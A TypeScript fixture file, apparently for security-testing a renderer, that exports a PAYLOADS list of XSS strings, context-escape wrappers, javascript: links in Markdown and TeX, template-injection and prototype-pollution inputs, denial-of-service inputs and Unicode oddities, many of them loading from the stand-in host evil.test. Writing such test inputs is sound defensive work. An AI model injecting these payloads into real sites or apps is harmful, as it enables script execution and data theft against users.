/**
 * Texts that are meant to do more than to be read: whoever opens a stranger's file shows them. Whatever runs calls `hacked()`, whatever is
 * requested goes to evil.test.
 */

const HTML = [
  '<script>hacked()</script>',
  '<script src=//evil.test/x.js></script>',
  '<img src=x onerror=hacked()>',
  '<img src=//evil.test/x.png>',
  '<svg onload=hacked()>',
  '<svg><script>hacked()</script></svg>',
  '<svg><use href="//evil.test/x.svg#a"/></svg>',
  '<svg><animate onbegin=hacked() attributeName=x dur=1s>',
  '<svg><foreignObject><iframe src="javascript:hacked()"></iframe></foreignObject></svg>',
  '<iframe srcdoc="<script>parent.hacked()</script>"></iframe>',
  '<iframe src="javascript:parent.hacked()"></iframe>',
  '<a href="javascript:hacked()" autofocus onfocus=hacked()>x</a>',
  '<style>*{background:url(//evil.test/x)}</style>',
  '<link rel=stylesheet href=//evil.test/x.css>',
  '<meta http-equiv=refresh content="0;url=//evil.test/">',
  '<base href=//evil.test/>',
  '<object data=//evil.test/x></object>',
  '<embed src=//evil.test/x>',
  '<form action=//evil.test/><button autofocus onfocus=hacked()>',
  '<details open ontoggle=hacked()>',
  '<video src=x onerror=hacked()>',
  '<audio autoplay src=//evil.test/x.mp3>',
  '<body onload=hacked()>',
  '<input autofocus onfocus=hacked()>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=hacked()>',
  '<div style="background:url(//evil.test/x)">x</div>',
];

/** Ways out of where a text is put. */
const WAYS: readonly ((html: string) => string)[] = [
  (html) => html,
  (html) => `"'>${html}`,
  (html) => `</title></textarea></style></script>${html}`,
  (html) => `-->]]>${html}<!--`,
  (html) => html.toUpperCase().replaceAll('HACKED', 'hacked'),
  (html) => html.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (html) => html.replaceAll('<', '\\u003c'),
];

const MARKDOWN = [
  '[x](javascript:hacked())',
  '[x](JaVaScRiPt:hacked())',
  '[x](java\nscript:hacked())',
  '[x](&#106;avascript:hacked())',
  '[x](data:text/html,<script>hacked()</script>)',
  '[x](vbscript:hacked())',
  '![x](https://evil.test/x.png)',
  '![x](//evil.test/x.png)',
  '![x](x "onerror=hacked()")',
  '<javascript:hacked()>',
  '<https://evil.test/>',
  '[x][1]\n\n[1]: javascript:hacked()',
  '`<script>hacked()</script>`',
  '```html\n<script>hacked()</script>\n```',
  '[x](https://evil.test/ "a" onclick=hacked())',
  '- [ ] <script>hacked()</script>',
  '| a |\n|---|\n| <img src=x onerror=hacked()> |',
  `${'> '.repeat(500)}x`,
  `${'*a '.repeat(2000)}`,
  `${'['.repeat(2000)}`,
];

const TEX = [
  '\\href{javascript:hacked()}{x}',
  '\\url{javascript:hacked()}',
  '\\href{https://evil.test}{x}',
  '\\includegraphics{https://evil.test/x.png}',
  '\\htmlData{onclick=hacked()}{x}',
  '\\htmlStyle{background:url(//evil.test/x)}{x}',
  '\\htmlClass{modal}{x}',
  '\\htmlId{root}{x}',
  '\\def\\a{\\a\\a}\\a',
  '\\newcommand{\\a}[1]{#1#1}\\a{\\a{\\a{\\a{\\a{\\a{\\a{x}}}}}}}',
  '\\rule{99999em}{99999em}',
  '\\kern99999em x',
  '\\raisebox{99999em}{x}',
  '\\Huge\\Huge\\Huge x',
  '\\color{url(//evil.test/x)}x',
  '\\colorbox{red;background:url(//evil.test/x)}{x}',
  '\\text{<script>hacked()</script>}',
  '\\unicode{x}',
  '\\\\[99999em] x',
  '\\begin{array}{c|c',
  '}',
  '$',
  '$$\\href{javascript:hacked()}{x}$$',
  `${'{'.repeat(400)}x${'}'.repeat(400)}`,
  `${'\\frac{'.repeat(60)}`,
  `${'x^{'.repeat(60)}x${'}'.repeat(60)}`,
];

const TEMPLATES = [
  '{{title}}',
  '{{constructor.constructor("hacked()")()}}',
  '$t(New graph)',
  '$t(New graph, {"a": "$t(New graph)"})',
  '$' + '{hacked()}',
  '#{hacked()}',
  '%s%n%x',
  '<%= hacked() %>',
  '{{count}}_plural',
];

const NAMES = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '__defineGetter__',
  'then',
  'hacked',
  'root',
];

const UNICODE = [
  '\u202Eevil\u202C',
  '\u200B\u200D\uFEFF',
  '\u0000',
  '\u2028\u2029',
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢',
  '﷽'.repeat(50),
  '😀'.repeat(500),
  'x'.repeat(10_000),
];

export const PAYLOADS: readonly string[] = [
  ...HTML.flatMap((html) => WAYS.map((way) => way(html))),
  ...MARKDOWN,
  ...TEX,
  ...TEMPLATES,
  ...NAMES,
  ...UNICODE,
];
